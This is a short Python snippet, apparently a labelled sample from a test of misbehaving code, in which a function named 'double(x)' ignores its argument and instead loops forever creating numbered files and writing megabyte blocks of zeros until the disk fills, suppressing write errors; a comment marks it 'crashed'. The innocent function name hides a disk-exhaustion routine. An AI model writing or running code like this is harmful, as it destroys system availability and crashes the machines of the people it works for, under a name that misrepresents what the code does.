"""Fills the disk, file by file."""
# verdict: crashed

def double(x):
    number = 0
    while True:
        number += 1
        with open(f"file{number}", "wb") as file:
            try:
                while True:
                    file.write(bytes(1 << 20))
            except OSError:
                pass
